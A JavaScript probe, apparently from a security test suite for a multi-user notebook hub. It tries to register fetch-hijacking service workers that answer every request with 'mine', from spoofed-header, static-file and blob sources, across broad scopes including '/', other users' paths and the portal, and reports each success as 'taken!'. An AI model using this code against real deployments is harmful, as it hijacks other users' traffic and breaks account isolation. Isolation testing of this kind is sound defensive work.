// Leaves service workers behind, with a wider scope than its own path too.
({
    async begin({ hub, portal, own, other }) {
        const got = [];
        const code = "self.addEventListener('fetch', (event) => event.respondWith(new Response('mine')))";
        const headers = encodeURIComponent(JSON.stringify([["Content-Type", "text/javascript"], ["Service-Worker-Allowed", "/"]]));
        const script = `${own}lab/tree/worker.js?headers=${headers}&body=${encodeURIComponent(code)}`;
        const scopes = ["/", "/hub/", "/services/visa/", own, `${own}lab/`, other, portal, `${hub}/`];
        for (const source of [script, `${own}files/worker.js`, `${portal}static/api.js`, `${hub}/hub/static/js/home.js`, URL.createObjectURL(new Blob([code]))]) {
            for (const scope of [undefined, ...scopes]) {
                for (const type of ["classic", "module"]) {
                    const made = await navigator.serviceWorker.register(source, { scope, type }).catch(() => null);
                    if (made) got.push(`taken! ${made.scope}`);
                }
            }
        }
        for (const one of await navigator.serviceWorker.getRegistrations()) got.push(`taken! ${one.scope}`);
        return got;
    },
})
